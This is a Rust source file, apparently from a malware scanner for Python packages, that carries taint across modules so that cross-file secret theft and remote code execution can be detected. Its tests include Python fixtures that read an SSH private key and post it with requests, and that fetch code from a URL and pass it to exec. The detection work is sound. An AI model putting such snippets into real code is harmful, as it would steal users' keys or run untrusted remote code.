//! What the package's own functions return, across its modules.
//!
//! The walk of one file cannot know what `from .keys import read_key;
//! read_key()` returns: the result carries the callee's bit
//! ([`taint::imported`]) instead. Once every file of the package is
//! analysed, [`link`] finds each such callee among the package's
//! functions and adds the sources it returns to every value that carries
//! the bit, so a key read in one module and sent from another is a secret
//! where it is sent, and a payload decoded in one module is decoded where
//! another runs it. A function that returns what a function of a third
//! module returns is followed, at most [`MAX_HOPS`] modules deep.

use rustc_hash::FxHashMap;

use super::modules;
use crate::python::taint::{self, Taint};
use crate::python::{FileAnalysis, FileRole, Value};

/// Most modules a returned value is followed through.
pub const MAX_HOPS: usize = 8;

/// Adds to every value that carries an imported result what that
/// function returns. Files that import nothing of the package are not
/// touched.
pub fn link(python: &mut [FileAnalysis]) {
    if python.iter().all(|f| f.imported_calls.is_empty()) {
        return;
    }
    let index = Index::of(python);
    let mut memo = FxHashMap::default();
    let resolved: Vec<Vec<Taint>> = (0..python.len())
        .map(|file| {
            (0..python[file].imported_calls.len())
                .map(|k| index.returned(python, file, k, 0, &mut memo))
                .collect()
        })
        .collect();
    for (file, returned) in python.iter_mut().zip(&resolved) {
        if returned.iter().all(|&t| t == 0) {
            continue;
        }
        let add = |value: &mut Value| {
            let mut bits = value.imports;
            while bits != 0 {
                let k = bits.trailing_zeros() as usize;
                bits &= bits - 1;
                value.taint |= returned.get(k).copied().unwrap_or(0);
            }
        };
        for call in &mut file.calls {
            call.args.iter_mut().for_each(add);
            call.keywords.iter_mut().for_each(|(_, v)| add(v));
        }
        for call in &mut file.local_calls {
            call.args.iter_mut().for_each(add);
            call.keywords.iter_mut().for_each(|(_, v)| add(v));
        }
        for store in &mut file.fields {
            add(&mut store.value);
        }
    }
}

/// The package's importable modules, and where each module's functions
/// are.
struct Index {
    /// Each file's module and whether it is a package's `__init__`.
    modules: Vec<(String, bool)>,
    /// The file of each module: the first one that is not a script.
    files: FxHashMap<String, usize>,
}

impl Index {
    fn of(python: &[FileAnalysis]) -> Index {
        let modules: Vec<(String, bool)> = python
            .iter()
            .map(|f| {
                let module = modules::module_of(&f.path);
                (module, f.path.ends_with("__init__.py"))
            })
            .collect();
        let mut files = FxHashMap::default();
        for (i, f) in python.iter().enumerate() {
            // Scripts (tests, docs, examples) define nothing code imports.
            if f.role != Some(FileRole::Script) {
                files.entry(modules[i].0.clone()).or_insert(i);
            }
        }
        Index { modules, files }
    }

    /// The sources the `k`th imported callee of `file` returns, with the
    /// imported results it returns followed. A callee under way (a cycle)
    /// counts as returning nothing.
    fn returned(
        &self,
        python: &[FileAnalysis],
        file: usize,
        k: usize,
        hops: usize,
        memo: &mut FxHashMap<(usize, usize), Taint>,
    ) -> Taint {
        if let Some(&known) = memo.get(&(file, k)) {
            return known;
        }
        if hops >= MAX_HOPS {
            return 0;
        }
        memo.insert((file, k), 0);
        let (module, is_package) = &self.modules[file];
        let callee = modules::absolute(&python[file].imported_calls[k], module, *is_package);
        let found = modules::resolve(&callee, |module, name| {
            let &target = self.files.get(module)?;
            let returns = &python[target].returns;
            let at = returns
                .binary_search_by(|(function, _)| (**function).cmp(name))
                .ok()?;
            Some((target, returns[at].1))
        });
        let Some(((target, returned), _)) = found else {
            return 0;
        };
        let mut sources = returned & taint::SOURCES;
        for next in taint::indexes(taint::imported_of(returned)) {
            sources |= self.returned(python, target, next, hops + 1, memo);
        }
        memo.insert((file, k), sources);
        sources
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::python::{FileRole, analyze};

    fn package(files: &[(&str, &str)]) -> Vec<FileAnalysis> {
        let mut python: Vec<FileAnalysis> = files
            .iter()
            .map(|(path, code)| analyze(path, code.as_bytes(), FileRole::Module))
            .collect();
        link(&mut python);
        python
    }

    /// The taint of the first argument of the first call of `name` in `file`.
    fn sent(python: &[FileAnalysis], file: &str, name: &str) -> Taint {
        let file = python.iter().find(|f| f.path == file).expect("file");
        let call = file
            .calls
            .iter()
            .find(|c| c.name.as_str() == name)
            .expect("call");
        call.args[0].taint
    }

    #[test]
    fn a_secret_returned_by_another_module_reaches_the_send() {
        let python = package(&[
            (
                "pkg/keys.py",
                "def key():\n    return open('/home/u/.ssh/id_rsa').read()\n",
            ),
            (
                "pkg/api.py",
                "import requests\nfrom .keys import key\n\ndef go():\n    k = key()\n    requests.post(k)\n",
            ),
        ]);
        assert_ne!(
            sent(&python, "pkg/api.py", "requests.post") & taint::SECRET,
            0
        );
    }

    #[test]
    fn results_are_followed_through_modules_and_by_absolute_names() {
        let python = package(&[
            (
                "pkg/net.py",
                "import urllib.request\n\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n",
            ),
            (
                "pkg/mid.py",
                "from pkg.net import fetch\n\ndef code():\n    return fetch('https://h.example/p')\n",
            ),
            (
                "pkg/run.py",
                "from .mid import code\n\ndef go():\n    exec(code())\n",
            ),
        ]);
        assert_ne!(
            sent(&python, "pkg/run.py", "builtins.exec") & taint::NETWORK,
            0
        );
    }

    #[test]
    fn what_another_package_or_a_plain_function_returns_is_not_added() {
        let python = package(&[
            ("pkg/util.py", "def name():\n    return 'x'\n"),
            (
                "pkg/run.py",
                "import other\nfrom .util import name\n\ndef go():\n    exec(name())\n    exec(other.code())\n",
            ),
        ]);
        let run = &python[1];
        assert!(
            run.calls
                .iter()
                .filter(|c| c.name.as_str() == "builtins.exec")
                .all(|c| c.args[0].taint == 0)
        );
        // Only the package's own callee has a bit.
        assert_eq!(run.imported_calls.len(), 1);
    }

    #[test]
    fn modules_that_return_each_other_end() {
        let python = package(&[
            ("pkg/a.py", "from .b import f\n\ndef g():\n    return f()\n"),
            (
                "pkg/b.py",
                "import os\nfrom .a import g\n\ndef f():\n    return g()\n\ndef h():\n    os.system(g())\n",
            ),
        ]);
        assert_eq!(sent(&python, "pkg/b.py", "os.system"), 0);
    }
}
